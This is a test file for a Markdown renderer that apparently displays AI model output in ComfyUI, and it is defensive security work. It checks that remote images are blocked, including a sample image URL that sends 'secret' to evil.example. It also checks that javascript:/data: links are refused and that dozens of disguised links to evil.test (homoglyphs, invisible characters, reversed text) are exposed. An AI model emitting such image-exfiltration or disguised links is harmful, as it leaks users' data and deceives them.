import { renderToStaticMarkup } from "react-dom/server";
import { beforeAll, expect, it, vi } from "vitest";
import { Markdown } from "./Markdown";

beforeAll(() => {
  vi.stubGlobal("document", { baseURI: "http://127.0.0.1:8188/" });
});

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

it("never lets a model's text load a remote image", () => {
  const shown = html("![chart](https://evil.example/x.png?q=secret) ![a](/api/view?filename=a.png)");
  expect(shown.match(/src="[^"]*"/g)).toEqual(['src="http://127.0.0.1:8188/api/view?filename=a.png"']);
});

it("sets each block from the side where its text begins", () => {
  const blocks = [...html("> שלום\n\n- one\n\n# Two").matchAll(/<(\w+) dir="auto"/g)].map(([, tag]) => tag);
  expect(blocks).toEqual(["blockquote", "ul", "h1"]);
});

it("shows HTML as text", () => {
  expect(html('<img src="/view?a"> <b>bold</b>')).not.toMatch(/<img|<b>/);
});

it.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x"])("does not link to %s", (address) => {
  expect(html(`[click](${address})`)).not.toContain(address.split(":")[0]);
});

it("opens links apart from ComfyUI's page", () => {
  expect(html("[docs](https://docs.comfy.org)")).toContain(
    '<a href="https://docs.comfy.org" title="https://docs.comfy.org" target="_blank" rel="noopener noreferrer">',
  );
});

it.each([
  ["[https://good.example](http://evil.test/?d=1)", "</a> (evil.test)"],
  ["[https://evil.test.good.example/](http://evil.test/)", "</a> (evil.test)"],
  ["[good.example](http://evil.test)", "</a> (evil.test)"],
  ["[**https://good.example**](https://evil.test)", "</a> (evil.test)"],
  ["[`good.example`](https://evil.test)", "</a> (evil.test)"],
  ["[*good*.**example**](https://evil.test)", "</a> (evil.test)"],
  ["[ https://good.example ](https://evil.test)", "</a> (evil.test)"],
  ["[go to good.example now](https://evil.test)", "</a> (evil.test)"],
  ["[h t t p s : / / g o o d . e x a m p l e](https://evil.test)", "</a> (evil.test)"],
  ["[good\u200b.\u2060exam\u00adple](https://evil.test)", "</a> (evil.test)"],
  ["[good．example](https://evil.test)", "</a> (evil.test)"],
  ["[good。example](https://evil.test)", "</a> (evil.test)"],
  ["[\u202eelpmaxe.doog](https://evil.test)", "</a> (evil.test)"],
  ["[![https://good.example](/view?filename=a.png)](https://evil.test)", "</a> (evil.test)"],
  ["[192.0.2.1](https://evil.test)", "</a> (evil.test)"],
  ["https://good.example@evil.test", "(evil.test)"],
  ["[good.example](//evil.test)", "</a> (evil.test)"],
  ["[localhost:8188/view](https://evil.test)", "</a> (evil.test)"],
  ["[render-box:8188](https://evil.test)", "</a> (evil.test)"],
  ["![https://good.example](https://evil.test/a.png)", "</a> (evil.test)"],
  ["![good.example](https://evil.test/a.png)", "</a> (evil.test)"],
  ["![chart](https://evil.test/a.png)", "not loaded)</a></p>"],
  ["[at 12:30](https://good.example/b)", "</a></p>"],
  ["[g\u043e\u043ed.example](https://g\u043e\u043ed.example)", "</a> (xn--gd-fmca.example)"],
  ["[www.good.example/a](https://good.example/b)", "</a></p>"],
  ["[**the guide**, v1.2 of 3.5](https://good.example/b)", "</a></p>"],
  ["[Flux.1 dev](https://good.example/b)", "</a></p>"],
  ["https://good.example/a", "</a></p>"],
  ["[see there](http://evil.test)", "</a></p>"],
  ["[v1.2](/file)", "</a></p>"],
])("shows where a link leads that is worded as another: %s", (text, end) => {
  expect(html(text)).toContain(end);
});

it("names the language of a code block and offers to copy it", () => {
  const shown = html("```python\na = 1\n```");
  expect(shown).toContain("<span>python</span>");
  expect(shown).toContain('aria-label="Copy code"');
});
